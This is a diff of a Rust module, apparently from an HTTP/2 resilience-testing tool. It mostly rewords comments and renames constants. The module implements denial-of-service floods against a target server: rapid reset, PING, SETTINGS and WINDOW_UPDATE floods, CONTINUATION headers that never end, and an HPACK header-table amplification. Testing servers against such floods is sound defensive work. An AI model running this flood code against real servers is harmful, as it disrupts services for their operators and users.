@@ -1,4 +1,4 @@
-//! Frames of HTTP/2 that cost the server more than the client, on a few connections.
+//! HTTP/2 frames that cost the server more than the client, on few connections.
 
 use std::time::Duration;
 
@@ -10,14 +10,14 @@ use tokio::time::{Instant, timeout_at};
 
 use super::connections::drain;
 use super::requests::{dry, object_path};
-use super::{Attack, Context, ELSEWHERE, Report};
+use super::{ATTACKER_ADDRESS, Attack, Context, Report};
 use crate::frames::{self, END_HEADERS, END_STREAM, frame};
 use crate::tls::{Identity, Protocol};
 use crate::{kinds, seed};
 
-/// Connections that flood at once.
+/// Concurrent connections of a flood.
 const LANES: usize = 4;
-/// Frames that are written together.
+/// Frames in one write.
 const CHUNK: u32 = 100;
 
 pub(super) const ATTACKS: &[Attack] = &[
@@ -27,22 +27,22 @@ pub(super) const ATTACKS: &[Attack] = &[
         |context| async move { flood(&context, Identity::Admin, rapid_reset).await }.boxed(),
     ),
     Attack::client("floods/pings", "PING frames without end", |context| {
-        async move { flood(&context, Identity::Nobody, pings).await }.boxed()
+        async move { flood(&context, Identity::Anonymous, pings).await }.boxed()
     }),
     Attack::client(
         "floods/settings",
         "SETTINGS frames without end",
-        |context| async move { flood(&context, Identity::Nobody, settings).await }.boxed(),
+        |context| async move { flood(&context, Identity::Anonymous, settings).await }.boxed(),
     ),
     Attack::client(
         "floods/continuation",
         "headers that CONTINUATION never ends",
-        |context| async move { flood(&context, Identity::Nobody, continuation).await }.boxed(),
+        |context| async move { flood(&context, Identity::Anonymous, continuation).await }.boxed(),
     ),
     Attack::client(
         "floods/header-table",
         "a header of 4 kB that is named 4,000 times by index",
-        |context| async move { flood(&context, Identity::Nobody, header_table).await }.boxed(),
+        |context| async move { flood(&context, Identity::Anonymous, header_table).await }.boxed(),
     ),
     Attack::client(
         "floods/heads",
@@ -57,7 +57,7 @@ pub(super) const ATTACKS: &[Attack] = &[
     Attack::client(
         "floods/window-updates",
         "WINDOW_UPDATE of one byte without end",
-        |context| async move { flood(&context, Identity::Nobody, window_updates).await }.boxed(),
+        |context| async move { flood(&context, Identity::Anonymous, window_updates).await }.boxed(),
     ),
     Attack::client(
         "floods/window-toggles",
@@ -66,17 +66,17 @@ pub(super) const ATTACKS: &[Attack] = &[
     ),
     Attack::client(
         "floods/anonymous",
-        "requests without credentials, as fast as they go",
-        |context| async move { flood(&context, Identity::Nobody, anonymous).await }.boxed(),
+        "requests without credentials at full speed",
+        |context| async move { flood(&context, Identity::Anonymous, anonymous).await }.boxed(),
     ),
 ];
 
-/// A head of 120 kB on the wire takes 2.4 MB.
+/// A header block of 120 kB on the wire decodes to 2.4 MB.
 async fn heads(context: Context) -> Result<Report> {
     let end = Instant::now() + context.seconds.max(Duration::from_secs(3));
     let connection = context
         .target
-        .tls(ELSEWHERE, Identity::Admin, Protocol::Http2);
+        .tls(ATTACKER_ADDRESS, Identity::Admin, Protocol::Http2);
     let stream = connection.await?;
     let (mut reader, mut writer) = split(stream);
     let authority = context.target.address.to_string();
@@ -118,8 +118,8 @@ async fn heads(context: Context) -> Result<Report> {
     })
 }
 
-/// Writes chunks, each made from its number, until the time is over; connects again when the server
-/// has had enough.
+/// Writes the chunk of each number until the time is over; reconnects when the server closes the
+/// connection.
 async fn flood(
     context: &Context,
     identity: Identity,
@@ -129,7 +129,7 @@ async fn flood(
     paced(context, identity, LANES, Duration::ZERO, end, chunk).await
 }
 
-/// The same over `connections` until `end`, with a pause after each chunk.
+/// Floods over `connections` until `end`, with a pause after each chunk.
 pub(super) async fn paced(
     context: &Context,
     identity: Identity,
@@ -143,9 +143,9 @@ pub(super) async fn paced(
         while Instant::now() < end {
             let connection = context
                 .target
-                .tls(ELSEWHERE, identity, Protocol::Http2)
+                .tls(ATTACKER_ADDRESS, identity, Protocol::Http2)
                 .await;
-            // A server that refuses more connections defends itself.
+            // A server that rejects further connections behaves correctly.
             let Ok(stream) = connection else {
                 tokio::time::sleep(Duration::from_millis(100)).await;
                 continue;
@@ -154,7 +154,8 @@ pub(super) async fn paced(
             let authority = context.target.address.to_string();
             let writing = async {
                 writer.write_all(&frames::hello(65_535)).await?;
-                // Responses of a whole flood fit into the window of the connection.
+                // The connection window admits the responses of a whole flood, so flow control does
+                // not stop them.
                 writer.write_all(&frames::window(0, 1 << 30)).await?;
                 for number in 0.. {
                     let bytes = chunk(&authority, number);
@@ -173,7 +174,7 @@ pub(super) async fn paced(
                     _ = drain(&mut reader) => {}
                 }
             };
-            // The time is over, or the connection is.
+            // Ends at the time limit or when the connection fails.
             let _ = timeout_at(end, both).await;
         }
         sent
@@ -185,7 +186,7 @@ pub(super) async fn paced(
     })
 }
 
-/// Ids of the streams of a chunk.
+/// Stream ids of a chunk.
 fn streams(number: u32) -> impl Iterator<Item = u32> {
     (0..CHUNK).map(move |stream| (number * CHUNK + stream) * 2 + 1)
 }
@@ -248,7 +249,7 @@ fn continuation(authority: &str, number: u32) -> Vec<u8> {
 
 fn header_table(authority: &str, number: u32) -> Vec<u8> {
     let mut block = frames::get_block(authority, "/livez");
-    // With indexing: the header becomes entry 62, the first of the dynamic table.
+    // With indexing: the header becomes entry 62, the first of the dynamic table (RFC 7541, 2.3.3).
     let mut header = frames::header("x", &"a".repeat(4_000));
     header[0] = 0x40;
     block.extend(header);
